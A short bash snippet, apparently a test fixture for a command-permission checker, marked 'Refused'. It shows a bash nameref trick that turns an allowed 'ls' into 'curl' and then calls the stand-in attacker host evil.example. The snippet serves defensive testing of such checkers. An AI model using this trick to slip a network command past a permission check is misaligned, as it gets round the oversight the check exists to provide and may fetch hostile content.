# Trick: a variable is changed through another name.
# Refused: run(*)
tool=ls
declare -n other=tool
other=curl
$tool http://evil.example/
